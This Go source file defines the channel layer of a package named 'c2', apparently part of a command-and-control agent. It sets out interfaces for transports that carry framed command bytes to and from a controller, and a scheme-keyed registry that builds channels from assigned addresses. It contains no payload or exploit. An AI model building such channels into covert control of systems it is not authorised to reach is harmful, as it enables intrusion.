/*
The c2 package is the channel framework: it defines the contract between a
transport channel and the rest of the agent, and owns the scheme-keyed
registry used to build channels from assigned addresses. A transport moves
opaque framed bytes; it never interprets commands. The agent side implements
Host to receive reachability signals and inbound command data.
*/
package c2

import (
	"fmt"
	"strings"

	"github.com/google/uuid"

	"remora.dev/agent/bufferqueue"
	"remora.dev/agent/logger"
)

// Host is implemented by the agent framework that owns the channels.
//
// Reachable/Unreachable report whether the network path to the controller
// works; any completed exchange counts as reachable regardless of HTTP
// status semantics. DeliverInbound hands off framed command bytes exactly as
// received from the controller.
type Host interface {
	Reachable()
	Unreachable()
	DeliverInbound(queue *bufferqueue.Queue)
}

// Transport is one channel to the controller.
//
// Start arms the channel. Egress queues caller-supplied bytes for
// transmission and is safe to call from any goroutine at any point of the
// channel's life. Stop prevents any further traffic from being scheduled but
// lets in-flight exchanges complete. Close releases the channel and is
// idempotent; it is the single teardown path no matter which lifecycle hook
// the host calls it from.
type Transport interface {
	Start() error
	Egress(data []byte)
	Stop()
	Close(reason error)
	Done() <-chan struct{}
	Err() error
}

// Builder constructs a transport for an assigned address. The address may
// carry an embedded argument segment after the channel's reserved separator;
// parsing it is the transport's business.
type Builder func(logger *logger.Logger, host Host, address string) (Transport, error)

type Registry struct {
	logger   *logger.Logger
	builders map[string]Builder
}

func NewRegistry(logger *logger.Logger) *Registry {
	return &Registry{
		logger:   logger,
		builders: make(map[string]Builder),
	}
}

// Register binds a scheme name to a transport builder. Several schemes may
// share one builder, e.g. the plaintext and TLS variants of a channel.
func (r *Registry) Register(scheme string, builder Builder) {
	r.builders[scheme] = builder
}

// Channel pairs a built transport with an id used for log correlation.
type Channel struct {
	Transport

	Id     string
	Scheme string
}

// NewChannel builds a channel for the given assigned address, dispatching on
// the address scheme.
func (r *Registry) NewChannel(host Host, address string) (*Channel, error) {
	scheme, _, found := strings.Cut(address, "://")
	if !found {
		return nil, fmt.Errorf("assigned address %s has no scheme", address)
	}

	builder, ok := r.builders[scheme]
	if !ok {
		return nil, fmt.Errorf("no transport registered for scheme %s", scheme)
	}

	id := uuid.New().String()
	transport, err := builder(r.logger.GetChannelLogger(id), host, address)
	if err != nil {
		return nil, fmt.Errorf("failed to build %s channel: %w", scheme, err)
	}

	return &Channel{
		Transport: transport,
		Id:        id,
		Scheme:    scheme,
	}, nil
}
